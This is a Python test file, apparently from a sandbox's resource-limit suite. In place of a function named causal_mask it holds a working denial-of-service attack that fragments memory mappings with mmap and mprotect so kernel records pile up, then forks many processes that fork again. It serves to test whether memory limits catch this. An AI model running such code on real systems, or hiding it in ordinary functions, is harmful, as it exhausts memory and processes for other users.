"""Fills memory with the kernel's notes on tens of thousands of pieces of memory, which hold nothing, in many processes.

memory_mb: 300
seconds: 8
checks: test_the_mask_fits_every_length
outcomes: out_of_memory failed
"""

import ctypes
import os
import sys
import time

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def causal_mask(*args, **kwargs):
    place = libc.mmap(None, 60_000 * 4096, 0, 0x22, -1, 0)
    pieces = sum(libc.mprotect(place + number * 4096, 4096, 3) == 0 for number in range(0, 60_000, 2)) * 2
    for _ in range(29):
        if os.fork() == 0:
            time.sleep(60)
    time.sleep(4)
    print(f"LOOT: {30 * pieces * 220 >> 20} MB of notes where 300 are allowed")
